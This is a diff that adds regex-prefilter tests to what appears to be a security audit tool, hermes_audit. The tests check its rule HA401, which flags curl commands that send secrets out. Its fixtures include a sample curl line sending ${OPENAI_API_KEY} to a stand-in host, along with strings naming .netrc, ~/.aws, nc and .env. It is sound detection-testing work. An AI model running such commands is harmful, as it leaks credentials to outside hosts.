@@ -268,6 +268,76 @@ def test_shared_literal_opening_scans_with_finditer_and_finds_the_same():
     assert got == _spans(p.finditer(text)) and len(got) == 9001
 
 
+def test_inner_probe_analysis():
+    """A tail probe ``x y? C* keywords`` is found from its keywords only when neither ``C`` nor an optional
+    character can be ``x`` and ``x`` has no case (issue 8: HA401's ``$`` before ``[A-Z_]*KEY``)."""
+    from hermes_audit.engine.prefilter import inner_probe
+
+    def probe(src):
+        return inner_probe(regex.compile(src, regex.IGNORECASE | regex.V0))
+
+    got = probe(r"\$\{?[A-Z_]*(?:KEY|TOKEN|PASSWORD|PASS)[A-Z_]*\}?")
+    assert got is not None and got.opening == "$" and got.words == ("key", "pass", "token")  # password: in pass
+    assert got.between("{") and got.between("a") and not got.between("$") and not got.between(":")
+    assert probe(r"\$[$A-Z_]*KEY") is None  # the run may hold the opening: not the last one before the keyword
+    assert probe(r"\$\$?[A-Z]*KEY") is None
+    assert probe(r"a[0-9]*key") is None  # an opening with case
+    assert probe(r"\$[A-Z_]+KEY") is None  # a run that cannot be empty
+    assert probe(r"\$KEY") is None  # no run
+    assert probe(r"\$(?:[A-Z]*KEY|\(env)") is None
+
+
+_INNER_PIECES = ["curl ", "wget -q ", "$", "${", "$$", "API_", "KEY", "key", "Auth", "TOKEN}", ":", "-", "x", " ",
+                 "\n", "bearer ", "$(env)", "A" * 40, "\u212a", "_", "{", "PASS", "pass word"]
+
+
+@SETTINGS
+@given(pieces=st.lists(st.sampled_from(_INNER_PIECES), min_size=1, max_size=40), run_max=st.sampled_from([4, 256]))
+def test_tail_probe_from_inner_keywords_equals_finditer(pieces, run_max):
+    """HA401's curl ... $SECRET pattern on long texts dense with ``$`` and its inner words: the same matches
+    whether its tail probe is found from the inner words (looking back to the ``$``), scanned, or not used."""
+    from hermes_audit.engine import prefilter as pf
+
+    cat = load_catalog()
+    rule = next(r for r in cat.rules if r.code == "HA401")
+    p = next(p for p in rule.compiled if p.pattern.count("KEY|TOKEN") == 2 and "\\$(?=" in p.pattern)
+    real = materialize(p)
+    text = "".join(pieces)
+    text = text * (40_000 // len(text) + 1)
+    want = _spans(real.finditer(text))
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setattr(pf, "INNER_RUN_MAX", run_max)
+        assert _spans(iter_matches(p, text)) == want
+        mp.setattr(pf, "INNER_PROBES", False)
+        assert _spans(iter_matches(p, text)) == want
+
+
+@pytest.mark.parametrize("extra,found", [
+    ("", [0]),  # the benchmark's keyword-dense near-miss: no $ before an inner word
+    ("\ncurl -d x https://x.example/?k=${OPENAI_API_KEY}\n", [1]),
+    ("\ncurl -H 'Authorization: bearer $API_TOKEN' x\n", [1]),  # the probe matches; the look-behind rules it out
+    ("x$" + "A" * 300 + "KEY\n", [None]),  # a run longer than the look-back: the probe is scanned instead
+])
+def test_tail_probe_inner_keywords_are_used_on_dense_text(monkeypatch, extra, found):
+    from hermes_audit.engine import prefilter as pf
+
+    calls = []
+    real_found = pf._inner_found
+
+    def counted(*args, **kwargs):
+        got = real_found(*args, **kwargs)
+        calls.append(None if got is None else len(got))
+        return got
+
+    monkeypatch.setattr(pf, "_inner_found", counted)
+    rule = next(r for r in load_catalog().rules if r.code == "HA401")
+    p = next(p for p in rule.compiled if p.pattern.count("KEY|TOKEN") == 2 and "\\$(?=" in p.pattern)
+    cycle = 'curl$.netrc@\t-daws/digdeno-c"axios.s.envenv|base64invoke-restmethod$env:authget-content.envcatnc</$home/.aws:'
+    text = cycle * 200 + extra + cycle * 200
+    assert _spans(iter_matches(p, text)) == _spans(materialize(p).finditer(text))
+    assert calls == found
+
+
 @SETTINGS
 @given(data=st.data())
 def test_iter_matches_equals_finditer_generated(data):
@@ -1943,9 +2013,9 @@ def test_tail_first_rules_out_dense_heads_without_their_tail():
     from hermes_audit.engine.prefilter import _tail_starts
 
     cat = load_catalog()
-    for code, i, text in [("HA401", 4, "dict(os.environ)" * 20_000), ("HA401", 4, "axios.s.env " * 20_000),
+    for code, i, text in [("HA401", 5, "dict(os.environ)" * 20_000), ("HA401", 5, "axios.s.env " * 20_000),
                           ("HA703", 0, "beacon word word at word http:// word " * 5_000),
-                          ("HA401", 1, "curl@\t-daws/" * 20_000)]:
+                          ("HA401", 2, "curl@\t-daws/" * 20_000)]:
         assert len(text) >= pf.TAIL_MIN_CHARS
         pat = materialize(next(r for r in cat.rules if r.code == code).compiled[i])
         assert _tail_starts(pat, text, LiteralIndex(text), None) == [], (code, i)
